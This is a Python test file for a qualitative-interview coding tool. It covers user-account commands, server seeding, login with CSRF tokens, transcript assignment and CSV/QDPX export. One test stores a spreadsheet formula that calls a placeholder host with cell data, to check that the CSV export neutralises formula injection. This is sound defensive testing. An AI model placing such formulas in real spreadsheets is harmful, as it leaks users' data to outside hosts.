"""``dyadlab users …`` and the seeding done by ``dyadlab serve`` on a synthetic study."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from coding.store import CodingStore, StoreError
from coding.web.accounts import Accounts
from studies import load_study
from studies.cli import main
from studies.commands.serve import build_app
from tests.coding.store.helpers import FAST_HASHER


@pytest.fixture(scope="module")
def synthetic_study(tmp_path_factory):
    folder = tmp_path_factory.mktemp("synth") / "study"
    assert (
        main(["synth", str(folder), "--seed", "7", "--deliveries", "20", "--participants", "4"])
        == 0
    )
    return folder


@pytest.fixture
def study(synthetic_study, tmp_path):
    folder = tmp_path / "study"
    shutil.copytree(synthetic_study, folder)
    return folder


def _stdin(monkeypatch, text: str) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(text))


def test_users_add_list_reset_disable(study, monkeypatch, capsys):
    _stdin(monkeypatch, "a long lead password\n")
    assert main(["users", "add", str(study), "lead1", "--role", "lead", "--password-stdin"]) == 0
    _stdin(monkeypatch, "coder password 123\n")
    assert main(["users", "add", str(study), "coder_a", "--password-stdin"]) == 0
    capsys.readouterr()
    assert main(["users", "list", str(study), "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [(u["name"], u["role"], u["disabled"]) for u in listed] == [
        ("coder_a", "coder", False),
        ("lead1", "lead", False),
    ]

    _stdin(monkeypatch, "a new coder password\n")
    assert main(["users", "reset-password", str(study), "coder_a", "--password-stdin"]) == 0
    assert main(["users", "disable", str(study), "coder_a"]) == 0
    with CodingStore(load_study(study, check_files=False).store_url) as store:
        store = Accounts(store)
        assert store.verify_password("coder_a", "a new coder password") is None  # disabled
        assert store.users().set_index("name").loc["coder_a", "disabled"]
    assert main(["users", "enable", str(study), "coder_a"]) == 0
    with CodingStore(load_study(study, check_files=False).store_url) as store:
        store = Accounts(store)
        assert store.verify_password("coder_a", "a new coder password").name == "coder_a"


def test_users_refuses_bad_input_with_one_line(study, monkeypatch, capsys):
    _stdin(monkeypatch, "")  # not a terminal and no --password-stdin
    assert main(["users", "add", str(study), "coder_b"]) == 1
    _stdin(monkeypatch, "short\n")
    assert main(["users", "add", str(study), "coder_b", "--password-stdin"]) == 1
    assert main(["users", "disable", str(study), "nobody"]) == 1
    lines = capsys.readouterr().err.strip().splitlines()
    assert lines == [
        "dyadlab users: field 'password': standard input is not a terminal: use --password-stdin",
        "dyadlab users: field 'password': password must have at least 10 characters",
        "dyadlab users: field 'user': no user 'nobody'",
    ]


def test_serve_seeds_the_store_once(study):
    loaded = load_study(study, check_files=False)
    csv = pd.read_csv(study / "codings.csv")
    manifest = pd.read_csv(study / "transcripts" / "manifest.csv")
    app, store = build_app(loaded)
    try:
        assert len(store.transcripts()) == len(manifest)
        assert len(store.codings()) == len(csv)
        coders = set(csv["coder"]) - {"consensus", "auto"}
        assigned = store.assignments()
        assert set(assigned["coder"]) == coders
        # one assignment per (transcript, coder) pair present in the CSV
        expected = csv[csv["coder"].isin(coders)][["transcript_id", "coder"]].drop_duplicates()
        assert len(assigned) == len(expected)
        assert TestClient(app, base_url="http://127.0.0.1").get("/login").status_code == 200
    finally:
        store.close()
    app, store = build_app(loaded)  # second start: nothing imported twice
    try:
        assert len(store.codings()) == len(csv)
    finally:
        store.close()


def test_serve_refuses_a_transcript_whose_text_changed(study):
    loaded = load_study(study, check_files=False)
    _, store = build_app(loaded)
    store.close()
    manifest = pd.read_csv(study / "transcripts" / "manifest.csv")
    path = study / "transcripts" / manifest["file"].iloc[0]
    path.write_text(path.read_text(encoding="utf-8") + "\n\nP99: added later.", encoding="utf-8")
    with pytest.raises(StoreError, match="text changed"):
        build_app(load_study(study, check_files=False))


def test_serve_rejects_a_bad_port(study, capsys):
    assert main(["serve", str(study), "--port", "70000"]) == 1
    assert "--port must be 1-65535" in capsys.readouterr().err


def _lead_client(app, store) -> TestClient:
    import re

    Accounts(store, FAST_HASHER).add_user("lead1", "lead", "lead password 1")
    client = TestClient(app, base_url="http://127.0.0.1")
    token = re.search(r'name="login_csrf" value="([^"]+)"', client.get("/login").text).group(1)
    client.post(
        "/login", data={"name": "lead1", "password": "lead password 1", "login_csrf": token}
    )
    return client


def test_lead_exports_csv_and_qdpx_that_read_back(study, tmp_path):
    from coding.exchange import read_qdpx

    app, store = build_app(load_study(study, check_files=False))
    try:
        client = _lead_client(app, store)
        formula = '=HYPERLINK("http://x.example/?"&A1,"x")'
        first = store.codings().iloc[0]
        store.update_coding(int(first.coding_id), 1, memo=formula)
        csv_text = client.get("/api/export/codings.csv").text
        exported = pd.read_csv(io.StringIO(csv_text))
        assert "'" + formula in set(exported["memo"])  # neutralised for spreadsheets
        original = pd.read_csv(study / "codings.csv")
        key = ["transcript_id", "coder", "code_id", "start", "end"]
        assert sorted(map(tuple, exported[key].to_numpy().tolist())) == sorted(
            map(tuple, original[key].to_numpy().tolist())
        )
        response = client.get("/api/export/project.qdpx")
        assert response.status_code == 200
        path = tmp_path / "project.qdpx"
        path.write_bytes(response.content)
        project = read_qdpx(path)
        assert len(project.codings) == len(original)
        assert sorted(map(tuple, project.codings[key].to_numpy().tolist())) == sorted(
            map(tuple, original[key].to_numpy().tolist())
        )
        assert formula in set(project.codings["memo"])  # REFI-QDA keeps the memo exact
    finally:
        store.close()


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_users_add_prompts_twice_on_a_terminal(study, monkeypatch, capsys):
    answers = iter(["typed twice ok", "typed twice ok", "first try", "second try"])
    monkeypatch.setattr("getpass.getpass", lambda prompt="": next(answers))
    monkeypatch.setattr("sys.stdin", _Terminal(""))
    assert main(["users", "add", str(study), "coder_c"]) == 0
    assert main(["users", "add", str(study), "coder_d"]) == 1
    assert "the two passwords differ" in capsys.readouterr().err
    with CodingStore(load_study(study, check_files=False).store_url) as store:
        store = Accounts(store)
        assert store.verify_password("coder_c", "typed twice ok") is not None
        assert store.user("coder_d") is None


DEMO = Path(__file__).resolve().parents[3] / "studies" / "demo"


@pytest.fixture
def demo(tmp_path):
    folder = tmp_path / "demo"
    shutil.copytree(DEMO, folder, ignore=shutil.ignore_patterns("coding.sqlite*"))
    return folder


def _client(app, name: str, password: str) -> TestClient:
    import re

    client = TestClient(app, base_url="http://127.0.0.1")
    token = re.search(r'name="login_csrf" value="([^"]+)"', client.get("/login").text).group(1)
    answer = client.post(
        "/login",
        data={"name": name, "password": password, "login_csrf": token},
        follow_redirects=False,
    )
    assert answer.status_code == 303
    client.headers["X-CSRF-Token"] = client.get("/api/me").json()["csrf_token"]
    return client


def test_the_demo_lead_can_assign_the_readme_coders(demo):
    """README: ana (lead), ben and cleo; the demo's own coders hold every transcript."""
    app, store = build_app(load_study(demo, check_files=False))
    try:
        accounts = Accounts(store, FAST_HASHER)
        accounts.add_user("ana", "lead", "ana's long password")
        for name in ("ben", "cleo"):
            accounts.add_user(name, "coder", f"{name}'s long password")
        lead = _client(app, "ana", "ana's long password")
        page = lead.get("/").text
        transcripts = store.transcripts()["transcript_id"].tolist()
        import re

        offered = re.findall(r'<option value="ben"\s*>', page)  # selectable, not "disabled"
        assert len(offered) == len(transcripts) > 0
        first = transcripts[0]
        assigned = lead.post(f"/api/transcripts/{first}/assignments", json={"coder": "ben"})
        assert assigned.status_code == 200 and "ben" in assigned.json()["coders"]
        ben = _client(app, "ben", "ben's long password")
        assert [t["transcript_id"] for t in ben.get("/api/transcripts").json()] == [first]
    finally:
        store.close()


def test_a_transcript_imported_while_serving_appears_without_restart(demo, tmp_path):
    import time

    app, store = build_app(load_study(demo, check_files=False))
    try:
        Accounts(store, FAST_HASHER).add_user("ana", "lead", "ana's long password")
        lead = _client(app, "ana", "ana's long password")
        before = [t["transcript_id"] for t in lead.get("/api/transcripts").json()]
        source = tmp_path / "new.txt"
        source.write_text(
            "INTERVIEWER: How are you?\n\nP01: Better, the clinic helps.", encoding="utf-8"
        )
        assert (
            main(
                [
                    "import",
                    "transcripts",
                    str(demo),
                    str(source),
                    "--id",
                    "INT-NEW",
                    "--participant",
                    "P01",
                ]
            )
            == 0
        )
        time.sleep(2.1)  # the app looks for new transcripts at most every 2 s
        after = [t["transcript_id"] for t in lead.get("/api/transcripts").json()]
        assert after == sorted(before + ["INT-NEW"])
        shown = lead.get("/api/transcripts/INT-NEW").json()
        assert shown["text"].endswith("Better, the clinic helps.")
    finally:
        store.close()


def test_qdpx_export_names_a_stored_memo_it_cannot_carry(study):
    """A memo stored before the input check (or by a script) holding a character XML cannot
    carry gives a one-line error naming the coding, not a 500."""
    app, store = build_app(load_study(study, check_files=False))
    try:
        client = _lead_client(app, store)
        first = store.codings().iloc[0]
        store.update_coding(int(first.coding_id), 1, memo="bad\x0bmemo")
        response = client.get("/api/export/project.qdpx")
        assert response.status_code == 400
        message = response.json()["error"]
        assert f"coding {first.coding_id} " in message and first.coder in message
        assert "U+000B" in message and "\n" not in message
    finally:
        store.close()
